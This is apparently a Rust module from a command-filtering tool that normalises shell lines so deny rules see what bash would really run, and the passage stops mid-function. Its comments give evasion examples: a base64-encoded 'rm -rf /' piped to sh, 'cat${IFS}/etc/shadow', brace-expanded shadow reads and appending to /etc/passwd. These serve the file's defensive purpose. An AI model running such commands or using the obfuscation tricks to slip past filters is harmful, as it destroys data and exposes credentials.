//! Shell-aware normalisation of one command line.
//!
//! Rules must match what the shell would run, not what was typed: `r''m`, `$'\x72\x6d'`,
//! `/bin/rm`, `sudo -u root rm` and `echo cm0gLXJmIC8K | base64 -d | sh` all have to reach a rule
//! as `rm …`. [`normalize`] reads one line the way bash does (quotes, escapes, operators,
//! substitutions), unwraps launchers (`sudo`, `env`, `nohup`, …), follows command strings handed
//! to another shell (`bash -c`, `su -c`, `eval`, `ssh host CMD`, `docker exec`) and literal
//! payloads decoded into a shell, and returns every command it finds, spelled canonically.
//!
//! Nothing is executed and nothing unknowable is expanded: `$HOME` stays `$HOME`; only variables
//! assigned a literal earlier on the same line are substituted. The line, the nesting, the output
//! and decoded payloads are capped (the `MAX_*` constants), so a hostile line costs linear time
//! and bounded memory.

use std::collections::{HashMap, HashSet};

use launch::{Nested, Unwrapped, unwrap};
use lex::{Piece, Subst, SubstKind, Word};
use parse::{Pipeline, Redirect, Simple, Stage};

/// Bytes of a line that are read; the rest is ignored.
pub const MAX_LINE_BYTES: usize = 64 * 1024;
/// How many command strings or substitutions deep a command is still followed.
pub const MAX_DEPTH: usize = 4;
/// Entries returned for one line.
pub const MAX_ENTRIES: usize = 256;
/// Bytes kept of a decoded payload or command string.
pub const MAX_DECODED_BYTES: usize = 64 * 1024;
/// Bytes that variable substitution may add to one line: `b=$a$a$a; c=$b$b$b; …` cannot explode.
const EXPANSION_BUDGET: usize = 64 * 1024;
/// Longest value remembered for a variable.
const MAX_VALUE_BYTES: usize = 4 * 1024;
/// Bytes of known payloads (substitution outputs, decoded scripts) kept for one line: printf can
/// print far more than it is given.
const PAYLOAD_BUDGET: usize = 4 * MAX_DECODED_BYTES;
/// Bytes parsed for one line, the line included: command strings and payloads are parsed again,
/// and without this a line of nested `bash -c` bodies would cost several times its length.
const PARSE_BUDGET: usize = 2 * MAX_LINE_BYTES;
/// Pipeline stages through which a known payload is followed (`| rev | rev | …` stays linear).
const MAX_FOLLOWED_STAGES: usize = 16;
/// Launchers unwrapped from one command (`sudo env nohup …`).
const MAX_LAUNCHERS: usize = 32;
/// Shells: they run a command string given with `-c`, or a script read from standard input.
const SHELLS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "rbash", "yash", "posh", "fish", "csh",
    "tcsh",
];

/// One thing the shell would run, in normalised form.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct NormalizedCommand {
    /// Words unquoted and unescaped, wrappers removed, the command name without its directory,
    /// joined by single spaces; redirections kept as words (`echo x >> /etc/passwd`). For a
    /// pipeline entry, the stages' texts joined by " | ".
    pub text: String,
    /// The words of the simple command (for a pipeline entry: of its first stage).
    pub argv: Vec<String>,
    /// How it was reached, outermost first, e.g. ["sudo", "bash -c", "base64"]; empty for a plain
    /// command.
    pub via: Vec<String>,
}

/// Every simple command and pipeline in `line`, normalised. Never panics, whatever the input.
///
/// For each pipeline: one entry with the whole pipeline, then (when it has several stages) one per
/// stage, then what those stages run in turn: substitutions (via `$()`), command strings (via
/// `bash -c`, `ssh`, …) and decoded payloads (via `base64`, …). Texts are reported once, in the
/// order met; at most [`MAX_ENTRIES`] entries.
pub fn normalize(line: &str) -> Vec<NormalizedCommand> {
    let mut normalizer = Normalizer::new();
    normalizer.run_script(truncate(line, MAX_LINE_BYTES), &Ctx::default());
    normalizer.out
}

/// Text a pipeline stage is known to produce, and the steps that produced it (`echo`, `base64`).
#[derive(Debug, Clone)]
struct Value {
    text: String,
    steps: Vec<&'static str>,
}

impl Value {
    fn new(text: String, step: &'static str) -> Self {
        Value {
            text: truncated(text, MAX_DECODED_BYTES),
            steps: vec![step],
        }
    }

    fn then(&self, text: String, step: &'static str) -> Self {
        let mut steps = self.steps.clone();
        steps.push(step);
        Value {
            text: truncated(text, MAX_DECODED_BYTES),
            steps,
        }
    }

    /// What `$( )` makes of it: trailing newlines removed.
    fn substituted(mut self) -> Self {
        let kept = self.text.trim_end_matches('\n').len();
        self.text.truncate(kept);
        self
    }

    /// The labels for `via`: the decoders, or the source when the text went through unchanged.
    fn labels(&self) -> Vec<String> {
        let skip = usize::from(self.steps.len() > 1);
        self.steps[skip..].iter().map(|s| s.to_string()).collect()
    }
}

/// One word after expansion.
#[derive(Debug, Clone)]
struct Arg {
    text: String,
    /// Only literals and variables known on this line went into it, so its value can be remembered.
    resolved: bool,
    /// The word is exactly one substitution whose output is known (`"$(echo … | base64 -d)"`).
    output: Option<Value>,
    /// The word is exactly one substitution whose output is only known at run time (`$(curl …)`).
    opaque: bool,
    /// The word with the known outputs of its substitutions put in (`$(echo cm0= | base64 -d)`
    /// is `rm`); None when it has no substitution or anything in it is unknown.
    evaluated: Option<String>,
}

impl Arg {
    fn literal(text: String) -> Self {
        Arg {
            text,
            resolved: true,
            output: None,
            opaque: false,
            evaluated: None,
        }
    }

    /// The best known value: with substitution outputs when known.
    fn value(&self) -> &str {
        self.evaluated.as_deref().unwrap_or(&self.text)
    }
}

/// Where a script is being read: the chain that led to it and how deep that is.
#[derive(Debug, Clone, Default)]
struct Ctx {
    via: Vec<String>,
    depth: usize,
}

impl Ctx {
    fn child(&self, labels: impl IntoIterator<Item = String>) -> Ctx {
        let mut via = self.via.clone();
        via.extend(labels);
        Ctx {
            via,
            depth: self.depth + 1,
        }
    }

    fn via_with(&self, more: &[String]) -> Vec<String> {
        self.via.iter().chain(more).cloned().collect()
    }
}

/// Command and process substitutions met in a command's words, in order, with their `via` label.
type Substitutions = Vec<(&'static str, Prepared)>;

/// A simple command ready to report: expanded, unwrapped, with what it hands on.
struct Command {
    /// The command that finally runs; the first word is already a bare name.
    args: Vec<Arg>,
    /// Launchers removed in front of it, outermost first.
    via: Vec<String>,
    text: String,
    /// What a here-string, here-document or `< <(…)` feeds it, when known.
    stdin: Option<Value>,
    substitutions: Substitutions,
    /// Command strings and argument lists it hands to another command.
    nested: Vec<Nested>,
    /// The command line with known substitution outputs put in, when it has any
    /// (`$(echo cm0= | base64 -d) -rf /` runs `rm -rf /`).
    evaluated: Option<String>,
}

impl Command {
    fn new(args: Vec<Arg>, via: Vec<String>, redirects: Vec<String>) -> Self {
        let words = args.iter().map(|a| a.text.as_str());
        let text = join_words(words.chain(redirects.iter().map(String::as_str)), " ");
        Command {
            args,
            via,
            text,
            stdin: None,
            substitutions: Vec::new(),
            nested: Vec::new(),
            evaluated: None,
        }
    }

    fn argv(&self) -> Vec<String> {
        self.args.iter().map(|a| a.text.clone()).collect()
    }
}

enum PreparedStage {
    Command(Command),
    Group { text: String, body: Prepared },
}

impl PreparedStage {
    fn text(&self) -> &str {
        match self {
            PreparedStage::Command(cmd) => &cmd.text,
            PreparedStage::Group { text, .. } => text,
        }
    }

    fn argv(&self) -> Vec<String> {
        match self {
            PreparedStage::Command(cmd) => cmd.argv(),
            PreparedStage::Group { .. } => Vec::new(),
        }
    }

    fn via(&self) -> &[String] {
        match self {
            PreparedStage::Command(cmd) => &cmd.via,
            PreparedStage::Group { .. } => &[],
        }
    }
}

struct PreparedPipeline {
    stages: Vec<PreparedStage>,
    /// Known payloads that a stage runs as a script.
    feeds: Vec<Feed>,
    /// What the pipeline prints, when known: the value of a `$( )` around it.
    output: Option<Value>,
}

#[derive(Default)]
struct Prepared {
    pipelines: Vec<PreparedPipeline>,
}

impl Prepared {
    fn output(&self) -> Option<Value> {
        match self.pipelines.as_slice() {
            // `$()` and `` `` `` are empty: `r$()m` is rm.
            [] => Some(Value {
                text: String::new(),
                steps: Vec::new(),
            }),
            [only] => only.output.clone(),
            _ => None,
        }
    }
}

/// A known payload run by a shell (parsed as commands) or an interpreter (`python3 -c …`).
struct Feed {
    /// Relative to the pipeline: the stage's launchers, then the payload's decoders.
    via: Vec<String>,
    value: Value,
    interpreter: Option<(String, &'static str)>,
}

/// Walks a line: prepares each pipeline (expansion, unwrapping, payload flow), then reports it and
/// everything it runs. Variables assigned on the line are remembered across the walk.
struct Normalizer {
    out: Vec<NormalizedCommand>,
    seen: HashSet<String>,
    vars: HashMap<String, String>,
    /// What is left of [`EXPANSION_BUDGET`].
    expansion_budget: usize,
    /// What is left of [`PAYLOAD_BUDGET`].
    payload_budget: usize,
    /// What is left of [`PARSE_BUDGET`].
    parse_budget: usize,
}

impl Normalizer {
    fn new() -> Self {
        Normalizer {
            out: Vec::new(),
            seen: HashSet::new(),
            // IFS is the one variable known before the line runs; `cat${IFS}/etc/shadow` uses it.
            vars: HashMap::from([("IFS".to_string(), " \t\n".to_string())]),
            expansion_budget: EXPANSION_BUDGET,
            payload_budget: PAYLOAD_BUDGET,
            parse_budget: PARSE_BUDGET,
        }
    }

    fn full(&self) -> bool {
        self.out.len() >= MAX_ENTRIES
    }

    /// Whether an entry with this text would be kept: checked before building one.
    fn wants(&self, text: &str) -> bool {
        !self.full() && !text.is_empty() && !self.seen.contains(text)
    }

    fn push(&mut self, text: String, argv: Vec<String>, via: Vec<String>) {
        if self.wants(&text) {
            self.seen.insert(text.clone());
            self.out.push(NormalizedCommand { text, argv, via });
        }
    }

    /// Parses `script` and reports every command in it, pipeline by pipeline.
    fn run_script(&mut self, script: &str, ctx: &Ctx) {
        if ctx.depth > MAX_DEPTH || self.full() || self.parse_budget == 0 {
            return;
        }
        let script = truncate(script, MAX_DECODED_BYTES.min(self.parse_budget));
        self.parse_budget -= script.len();
        for pipeline in parse::parse(lex::tokenize(script, ctx.depth)) {
            if self.full() {
                return;
            }
            let prepared = self.prepare_pipeline(pipeline, ctx.depth);
            self.emit_pipeline(prepared, ctx);
        }
    }

    /// Reports a command given as an argument list (`docker exec web sh -c …`, `find -exec`).
    fn run_argv(&mut self, args: Vec<Arg>, ctx: &Ctx) {
        if ctx.depth > MAX_DEPTH || self.full() {
            return;
        }
        let stages = vec![PreparedStage::Command(self.command(args, Vec::new()))];
        let (output, feeds) = flow(&stages);
        let pipeline = PreparedPipeline {
            stages,
            feeds,
            output,
        };
        self.emit_pipeline(pipeline, ctx);
    }

    fn prepare_list(&mut self, list: Vec<Pipeline>, depth: usize) -> Prepared {
        Prepared {
            pipelines: list
                .into_iter()
                .map(|p| self.prepare_pipeline(p, depth))
                .collect(),
        }
    }

    fn prepare_pipeline(&mut self, pipeline: Pipeline, depth: usize) -> PreparedPipeline {
        let stages: Vec<PreparedStage> = pipeline
            .stages
            .into_iter()
            .map(|stage| match stage {
                Stage::Simple(simple) => PreparedStage::Command(self.prepare_simple(simple, depth)),
                Stage::Group { brace, body } => {
                    let body = self.prepare_list(body, depth);
                    let text = group_text(&body, brace);
                    PreparedStage::Group { text, body }
                }
            })
            .collect();
        let (output, feeds) = flow(&stages);
        PreparedPipeline {
            stages,
            feeds,
            output,
        }
    }

    fn prepare_simple(&mut self, simple: Simple, depth: usize) -> Command {
        let mut substitutions = Vec::new();
        let mut words = simple.words;
        let first_word = words
            .iter()
            .position(|w| assignment(w.plain_text()).is_none())
            .unwrap_or(words.len());
        let leading: Vec<Word> = words.drain(..first_word).collect();
        let rest = words;
        // `A=1 cmd` sets A for cmd only; `A=1` alone sets it for the rest of the line.
        let assignments_only = rest.is_empty();
        let mut assignments = Vec::new();
        for word in leading {
            let arg = self.expand_one(word, &mut substitutions, depth);
            if assignments_only {
                self.assign(&arg);
            }
            assignments.push(arg);
        }
        let mut args = Vec::new();
        for word in rest {
            args.extend(self.expand(word, true, &mut substitutions, depth));
        }
        let (redirects, stdin) =
            self.prepare_redirects(simple.redirects, &mut substitutions, depth);
        let mut cmd = if args.is_empty() {
            Command::new(assignments, Vec::new(), redirects)
        } else {
            self.command(args, redirects)
        };
        cmd.stdin = stdin;
        cmd.substitutions = substitutions;
        cmd
    }

    /// Unwraps launchers and names the command by its basename; notes what it assigns or unsets.
    fn command(&mut self, args: Vec<Arg>, redirects: Vec<String>) -> Command {
        let Unwrapped {
            mut args,
            via,
            nested,
        } = unwrap(args);
        if let Some(first) = args.first_mut() {
            first.text = basename(&first.text).to_string();
        }
        self.track_variables(&args);
        // A command string already handed on (`bash -c "$(…)"`) is followed as such.
        let evaluated = (nested.is_empty() && args.iter().any(|a| a.evaluated.is_some()))
            .then(|| join_words(args.iter().map(Arg::value), " "));
        let mut cmd = Command::new(args, via, redirects);
        cmd.nested = nested;
        cmd.evaluated = evaluated;
        cmd
    }

    /// `export A=rm` and friends assign like `A=rm`; `unset A` forgets.
    fn track_variables(&mut self, args: &[Arg]) {
        let Some((name, rest)) = args.split_first() else {
            return;
        };
        match name.text.as_str() {
            "export" | "readonly" | "declare" | "typeset" | "local" => {
                rest.iter().for_each(|arg| self.assign(arg));
            }
            "unset" => rest.iter().for_each(|arg| {
                self.vars.remove(&arg.text);
            }),
            _ => {}
        }
    }

    /// Remembers `NAME=value` when the value is literal; otherwise forgets NAME, whose value is now
    /// unknown.
    fn assign(&mut self, arg: &Arg) {
        let Some((name, append, value)) = assignment(arg.value()) else {
            return;
        };
        let resolved = arg.resolved || arg.evaluated.is_some();
        let known = match (append, self.vars.get(name)) {
            (false, _) => Some(value.to_string()),
            (true, Some(old)) => Some(format!("{old}{value}")),
            (true, None) => None,
        };
        match known {
            Some(value) if resolved && value.len() <= MAX_VALUE_BYTES => {
                self.vars.insert(name.to_string(), value);
            }
            _ => {
                self.vars.remove(name);
            }
        }
    }

    /// Expands one word into the fields the shell would pass: known variables substituted (and
    /// split on IFS when unquoted), substitutions kept as written but prepared for reporting.
    fn expand(
        &mut self,
        word: Word,
        split: bool,
        substitutions: &mut Substitutions,
        depth: usize,
    ) -> Vec<Arg> {
        if let Some(fields) = brace_expansion(&word) {
            return fields.into_iter().map(Arg::literal).collect();
        }
        let whole_substitution = matches!(word.pieces.as_slice(), [Piece::Subst(_)]);
        let has_substitution = word.pieces.iter().any(|p| matches!(p, Piece::Subst(_)));
        let mut fields = Fields::new(has_substitution);
        let mut output = None;
        for piece in word.pieces {
            match piece {
                Piece::Lit(text) => fields.push(&text),
                Piece::Var { name, raw, quoted } => match self.lookup(&name) {
                    Some(value) if split && !quoted => fields.push_split(&value, &self.ifs()),
                    Some(value) => fields.push(&value),
                    None => fields.push_unresolved(&raw),
                },
                Piece::Subst(mut sub) => {
                    let raw = std::mem::take(&mut sub.raw);
                    output = self.prepare_substitution(*sub, substitutions, depth);
                    fields.push_substitution(&raw, output.as_ref());
                }
            }
        }
        let mut args = fields.finish();
        if whole_substitution && let [arg] = args.as_mut_slice() {
            arg.opaque = output.is_none();
            arg.output = output;
        }
        args
    }

    /// Expands a word that is never split (assignment, redirection target) into one argument.
    fn expand_one(&mut self, word: Word, substitutions: &mut Substitutions, depth: usize) -> Arg {
        let mut args = self.expand(word, false, substitutions, depth);
        if args.len() == 1 {
            return args.remove(0);
        }
        let mut joined = Arg::literal(join(&args));
        joined.resolved = args.iter().all(|a| a.resolved);
        joined
    }

    /// Whether a payload this long may still be followed; counts it if so.
    fn spend_payload(&mut self, text: &str) -> bool {
        match self.payload_budget.checked_sub(text.len()) {
            Some(left) => {
                self.payload_budget = left;
                true
            }
            None => false,
        }
    }

    fn lookup(&mut self, name: &str) -> Option<String> {
        let value = self.vars.get(name)?;
        self.expansion_budget = self.expansion_budget.checked_sub(value.len())?;
        Some(value.clone())
    }

    fn ifs(&self) -> String {
        self.vars
            .get("IFS")
            .cloned()
            .unwrap_or_else(|| " \t\n".to_string())
    }

    /// Prepares the body of `$( )`, `` ` ` `` or `<( )` and returns its output when computable.
    fn prepare_substitution(
        &mut self,
        sub: Subst,
        substitutions: &mut Substitutions,
        depth: usize,
    ) -> Option<Value> {
        let tokens = sub.tokens?;
        let body = self.prepare_list(parse::parse(tokens), depth + 1);
        let output = body.output().map(|v| match sub.kind {
            SubstKind::Command => v.substituted(),
            SubstKind::Process => v,
        });
        let output = output.filter(|v| self.spend_payload(&v.text));
        let label = match sub.kind {
            SubstKind::Command => "$()",
            SubstKind::Process => "<()",
        };
        substitutions.push((label, body));
        output
    }

    /// Renders redirections as words and works out what, if anything known, they feed to stdin.
    fn prepare_redirects(
        &mut self,
        redirects: Vec<Redirect>,
        substitutions: &mut Substitutions,
        depth: usize,
    ) -> (Vec<String>, Option<Value>) {
        let mut rendered = Vec::new();
        let mut stdin = None;
        for redirect in redirects {
            let target = redirect
                .target
                .map(|w| self.expand_one(w, substitutions, depth));
            let op = redirect.op.trim_start_matches(|c: char| c.is_ascii_digit());
            let fed = match (op, &target, redirect.heredoc) {
                ("<<<", Some(t), _) => Some(
                    t.output
                        .clone()
                        .unwrap_or_else(|| Value::new(format!("{}\n", t.text), "<<<")),
                ),
                ("<<" | "<<-", _, Some(body)) => Some(Value::new(body, "<<")),
                ("<", Some(t), _) => t.output.clone(),
                _ => None,
            };
            if fed.is_some() {
                stdin = fed;
            }
            rendered.push(render_redirect(
                &redirect.op,
                target.as_ref().map(|t| t.text.as_str()),
            ));
        }
        (rendered, stdin)
    }

    fn emit(&mut self, list: Prepared, ctx: &Ctx) {
        for pipeline in list.pipelines {
            if self.full() {
                return;
            }
            self.emit_pipeline(pipeline, ctx);
        }
    }

    /// Reports the pipeline, its stages, then what each stage runs, then payloads fed to a shell.
    fn emit_pipeline(&mut self, pipeline: PreparedPipeline, ctx: &Ctx) {
        let PreparedPipeline { stages, feeds, .. } = pipeline;
        // A bare `( … )` or `{ …; }` is only a container: its commands are what matters.
        if let Some(first) = stages.first()
            && !matches!(stages.as_slice(), [PreparedStage::Group { .. }])
        {
            let text = pipeline_text(&stages);
            if self.wants(&text) {
                self.push(text, first.argv(), ctx.via_with(first.via()));
            }
        }
        if stages.len() > 1 {
            for stage in &stages {
                if self.wants(stage.text()) {
                    let text = stage.text().to_string();
                    self.push(text, stage.argv(), ctx.via_with(stage.via()));
                }
            }
        }
        for stage in stages {
            self.emit_nested(stage, ctx);
        }
        for feed in feeds {
            self.emit_feed(feed, ctx);
        }
    }

    fn emit_nested(&mut self, stage: PreparedStage, ctx: &Ctx) {
        let cmd = match stage {
            PreparedStage::Group { body, .. } => return self.emit(body, ctx),
            PreparedStage::Command(cmd) => cmd,
        };
        // Substitutions run in the current shell, before any launcher of the command.
        for (label, body) in cmd.substitutions {
            self.emit(body, &ctx.child([label.to_string()]));
        }
        if let Some(evaluated) = cmd.evaluated {
            let via = cmd.via.iter().cloned().chain(["$()".to_string()]);
            self.run_script(&evaluated, &ctx.child(via));
        }
        for nested in cmd.nested {
            match nested {
                Nested::Script { text, labels } => {
                    let via = cmd.via.iter().cloned().chain(labels);
                    self.run_script(&text, &ctx.child(via));
                }
                Nested::Argv { args, label } => {
                    let via = cmd.via.iter().cloned().chain([label]);
                    self.run_argv(args, &ctx.child(via));
                }
            }
        }
    }

    fn emit_feed(&mut self, feed: Feed, ctx: &Ctx) {
        if !self.spend_payload(&feed.value.text) {
            return;
        }
        let ctx = ctx.child(feed.via);
        match feed.interpreter {
            None => self.run_script(&feed.value.text, &ctx),
            Some((name, flag)) => {
                let program = feed.value.text.trim_end().to_string();
                let text = format!("{name} {flag} {program}");
                self.push(text, vec![name, flag.to_string(), program], ctx.via);
            }
        }
    }
}

/// The fields of one word as expansion splits it.
struct Fields {
    done: Vec<Arg>,
    text: String,
    /// The current field exists even if empty (`''`, or anything at all was added).
    live: bool,
    resolved: bool,
    /// The whole word with substitution outputs put in, while everything in it is known (only
    /// kept for words with a substitution, and only used when the word stays one field).
    evaluated: Option<String>,
}

impl Fields {
    fn new(has_substitution: bool) -> Self {
        Fields {
            done: Vec::new(),
            text: String::new(),
            live: false,
            resolved: true,
            evaluated: has_substitution.then(String::new),
        }
    }

    fn push(&mut self, text: &str) {
        self.text.push_str(text);
        self.live = true;
        if let Some(evaluated) = &mut self.evaluated {
            evaluated.push_str(text);
        }
    }

    fn push_unresolved(&mut self, raw: &str) {
        self.text.push_str(raw);
        self.live = true;
        self.resolved = false;
        self.evaluated = None;
    }

    /// Written as is; its output, when known, goes into the evaluated form.
    fn push_substitution(&mut self, raw: &str, output: Option<&Value>) {
        let evaluated = self.evaluated.take();
        self.push_unresolved(raw);
        self.evaluated = evaluated.zip(output).map(|(e, v)| e + &v.text);
    }

    /// An unquoted expansion: each IFS character ends a field, and empty fields vanish.
    fn push_split(&mut self, value: &str, ifs: &str) {
        if let Some(evaluated) = &mut self.evaluated {
            evaluated.push_str(value);
        }
        let mut parts = value.split(|c: char| ifs.contains(c));
        if let Some(first) = parts.next() {
            self.text.push_str(first);
            self.live |= !first.is_empty();
        }
        for part in parts {
            self.end_field();
            self.text.push_str(part);
            self.live = !part.is_empty();
        }
    }

    fn end_field(&mut self) {
        if self.live {
            let mut arg = Arg::literal(std::mem::take(&mut self.text));
            arg.resolved = self.resolved;
            self.done.push(arg);
        }
        self.text.clear();
        self.live = false;
        self.resolved = true;
    }

    fn finish(mut self) -> Vec<Arg> {
        self.end_field();
        if let [arg] = self.done.as_mut_slice() {
            arg.evaluated = self.evaluated;
        }
        self.done
    }
}

/// `{cat,/etc/shadow}` and `pre{a,b}post`: bash brace expansion of an unquoted comma list (the
/// first group only; sequences like `{1..9}` are left alone).
fn brace_expansion(word: &Word) -> Option<Vec<String>> {
    let text = word.plain_word()?;
    let open = text.find('{')?;
    let close = open + text[open..].find('}')?;
    let inner = &text[open + 1..close];
    if !inner.contains(',') || inner.contains('{') {
        return None;
    }
    let (prefix, suffix) = (&text[..open], &text[close + 1..]);
    Some(
        inner
            .split(',')
            .map(|alt| format!("{prefix}{alt}{suffix}"))
            .filter(|field| !field.is_empty())
            .collect(),
    )
}

fn render_redirect(op: &str, target: Option<&str>) -> String {
    match target {
        None => op.to_string(),
        // `2>&1`, `>&-`: a descriptor, written attached.
        Some(t) if op.ends_with('&') && (t == "-" || t.bytes().all(|c| c.is_ascii_digit())) => {
            format!("{op}{t}")
        }
        Some(t) => format!("{op} {t}"),
    }
}

fn pipeline_text(stages: &[PreparedStage]) -> String {
    let texts = stages.iter().map(PreparedStage::text);
    join_words(texts.filter(|t| !t.is_empty()), " | ")
}

/// `(a; b)` or `{ a; b; }`; a group of one pipeline reads as that pipeline.
fn group_text(body: &Prepared, brace: bool) -> String {
    let parts: Vec<String> = body
        .pipelines
        .iter()
        .map(|p| pipeline_text(&p.stages))
        .filter(|t| !t.is_empty())
        .collect();
    match (parts.as_slice(), brace) {
        ([], _) => String::new(),
        ([one], _) => one.clone(),
        (_, true) => format!("{{ {}; }}", parts.join("; ")),
        (_, false) => format!("({})", parts.join("; ")),
    }
}

/// `NAME=value` or `NAME+=value`: the name, whether it appends, and the value.
fn assignment(word: &str) -> Option<(&str, bool, &str)> {
    let (lhs, value) = word.split_once('=')?;
    let (name, append) = match lhs.strip_suffix('+') {
        Some(name) => (name, true),
        None => (lhs, false),
    };
    is_name(name.as_bytes()).then_some((name, append, value))
}

fn is_name(s: &[u8]) -> bool {
    match s.split_first() {
        Some((first, rest)) => {
            (first.is_ascii_alphabetic() || *first == b'_')
                && rest.iter().all(|c| c.is_ascii_alphanumeric() || *c == b'_')
        }
        None => false,
    }
}

/// `/usr/bin/rm` and `./rm` run `rm`.
fn basename(path: &str) -> &str {
    match path.rfind('/') {
        Some(slash) if slash + 1 < path.len() => &path[slash + 1..],
        _ => path,
    }
}

fn join(args: &[Arg]) -> String {
    join_words(args.iter().map(|a| a.text.as_str()), " ")
}

/// Like `[..].join(separator)`, without collecting the pieces first (this runs per command).
fn join_words<'a>(words: impl Iterator<Item = &'a str>, separator: &str) -> String {
    let mut text = String::new();
    for (i, word) in words.enumerate() {
        if i > 0 {
            text.push_str(separator);
        }
        text.push_str(word);
    }
    text
}

fn truncate(s: &str, max: usize) -> &str {
    let mut end = s.len().min(max);
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    &s[..end]
}

fn truncated(mut s: String, max: usize) -> String {
    let end = truncate(&s, max).len();
    s.truncate(end);
    s
}

fn lossy(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// Like [`lossy`] but reuses the buffer when it is valid UTF-8, as it nearly always is.
fn lossy_owned(bytes: Vec<u8>) -> String {
    String::from_utf8(bytes).unwrap_or_else(|e| lossy(e.as_bytes()))
}

// ---------------------------------------------------------------------------------------------
// Payload flow: what each pipeline stage is known to print, and which stage runs it.

enum Step {
    Output(Option<Value>),
    /// The stage runs the value as a program.
    Run(Value, Runner),
}

#[derive(Debug, Clone, Copy)]
enum Runner {
    Shell,
    /// `at` / `batch`: a shell script, run later.
    Scheduler,
    /// An interpreter, with the flag that takes a program as an argument.
    Interpreter(&'static str),
}

/// Follows known text through a pipeline: sources (`echo`, `printf`, here-strings), decoders
/// (`base64 -d`, `xxd -r -p`, `rev`) and the shells or interpreters that finally run it.
fn flow(stages: &[PreparedStage]) -> (Option<Value>, Vec<Feed>) {
    let mut current: Option<Value> = None;
    let mut feeds = Vec::new();
    let mut followed = 0;
    for stage in stages {
        let PreparedStage::Command(cmd) = stage else {
            current = None;
            continue;
        };
        let input = cmd.stdin.clone().or_else(|| current.take());
        current = match step(cmd, input) {
            Step::Output(value) => value,
            Step::Run(value, runner) => {
                let scheduler = matches!(runner, Runner::Scheduler).then(|| "at".to_string());
                let via = cmd.via.iter().cloned().chain(scheduler);
                let via = via.chain(value.labels()).collect();
                let interpreter = match runner {
                    Runner::Interpreter(flag) => Some((cmd.args[0].text.clone(), flag)),
                    Runner::Shell | Runner::Scheduler => None,
                };
                feeds.push(Feed {
                    via,
                    value,
                    interpreter,
                });
                None
            }
        };
        followed += 1;
        if followed > MAX_FOLLOWED_STAGES {
            current = None;
        }
    }
    (current, feeds)
}

fn step(cmd: &Command, input: Option<Value>) -> Step {
    let args = cmd.args.as_slice();
    let Some((first, rest)) = args.split_first() else {
        return Step::Output(None);
    };
    match first.text.as_str() {
        "echo" => Step::Output(Some(echo(rest))),
        "printf" => Step::Output(printf(rest)),
        "tee" => Step::Output(input),
        "cat" if rest.iter().all(|a| a.text.starts_with('-')) => Step::Output(input),
        "rev" => decoding(input, |text| Some(reverse_lines(text)), "rev"),
        "base64" | "openssl" if decodes_base64(args) => decoding(input, decode_base64, "base64"),
        "xxd" if decodes_hex(args) => decoding(input, decode_hex, "xxd"),
        "tr" => match translation(rest) {
            Some(table) => Step::Output(input.map(|v| {
                let bytes = v.text.bytes().map(|b| table[usize::from(b)]).collect();
                v.then(lossy_owned(bytes), "tr")
            })),
            None => Step::Output(None),
        },
        _ => run_step(args, input),
    }
}

/// `tr SET1 SET2` as a byte map, as GNU tr applies it (`tr 'a-z' 'n-za-m'` decodes ROT13);
/// `None` for options (`-d`, `-s`, `-c` change what tr does) or sets it does not understand.
fn translation(args: &[Arg]) -> Option<[u8; 256]> {
    let [from, to] = args else { return None };
    if from.opaque || to.opaque || from.text.starts_with('-') {
        return None;
    }
    let from = tr_set(from.text.as_bytes())?;
    let to = tr_set(to.text.as_bytes())?;
    let last = *to.last()?;
    let mut table: [u8; 256] = std::array::from_fn(|b| b as u8);
    // GNU tr pads a shorter SET2 with its last byte.
    for (f, t) in from
        .into_iter()
        .zip(to.into_iter().chain(std::iter::repeat(last)))
    {
        table[usize::from(f)] = t;
    }
    Some(table)
}

/// One `tr` set: bytes, `a-z` ranges, backslash escapes (as printf reads them) and the
/// `[:lower:]`, `[:upper:]`, `[:digit:]` classes.
fn tr_set(spec: &[u8]) -> Option<Vec<u8>> {
    const MAX_SET: usize = 1024;
    let mut set = Vec::new();
    let mut i = 0;
    while i < spec.len() {
        let rest = &spec[i..];
        if let Some((class, lo, hi)) = [
            (&b"[:lower:]"[..], b'a', b'z'),
            (&b"[:upper:]"[..], b'A', b'Z'),
            (&b"[:digit:]"[..], b'0', b'9'),
        ]
        .into_iter()
        .find(|(class, ..)| rest.starts_with(class))
        {
            set.extend(lo..=hi);
            i += class.len();
            continue;
        }
        if rest.starts_with(b"[:") || rest.starts_with(b"[=") {
            return None;
        }
        let (c, width) = if rest[0] == b'\\' {
            let mut decoded = Vec::new();
            let used = escape::one(&rest[1..], escape::Dialect::Printf, &mut decoded)?;
            let [byte] = decoded[..] else { return None };
            (byte, 1 + used)
        } else {
            (rest[0], 1)
        };
        i += width;
        match spec.get(i..i + 2) {
            Some(&[b'-', end]) => {
                if end < c {
                    return None;
                }
                set.extend(c..=end);
                i += 2;
            }
            _ => set.push(c),
        }
        if set.len() > MAX_SET {
            return None;
        }
    }
    Some(set)
}

/// A decoding stage: its output is its input decoded, if that is known and decodes.
fn decoding(input: Option<Value>, decode: fn(&str) -> Option<String>, label: &'static str) -> Step {
    Step::Output(input.and_then(|v| decode(&v.text).map(|text| v.then(text, label))))
}

/// A shell or interpreter reading its program from stdin (or from a known `<( )`).
fn run_step(args: &[Arg], input: Option<Value>) -> Step {
    let name = args[0].text.as_str();
    let run =
        |value: Option<Value>, runner| value.map_or(Step::Output(None), |v| Step::Run(v, runner));
    // `sudo -s`, `sudo -i` and `su` without a command start a shell, which reads its commands
    // from standard input as `sh` does: `echo … | base64 -d | sudo -s`.
    if launch::starts_a_shell(args) {
        return run(input, Runner::Shell);
    }
    if SHELLS.contains(&name) {
        let scan = launch::scan(args, &launch::SHELL);
        if scan.has(&["c"]) {
            return Step::Output(None);
        }
        return match args.get(scan.first) {
            None => run(input, Runner::Shell),
            Some(a) if a.text == "-" || scan.has(&["s"]) => run(input, Runner::Shell),
            Some(a) => run(a.output.clone(), Runner::Shell),
        };
    }
    if matches!(name, "at" | "batch") {
        let from_file = args.iter().any(|a| a.text.starts_with("-f"));
        return if from_file {
            Step::Output(None)
        } else {
            run(input, Runner::Scheduler)
        };
    }
    match interpreter_flag(name) {
        Some(flag) if reads_program_from_stdin(&args[1..]) => run(input, Runner::Interpreter(flag)),
        _ => Step::Output(None),
    }
}

/// The flag with which an interpreter takes its program as an argument.
fn interpreter_flag(name: &str) -> Option<&'static str> {
    match name {
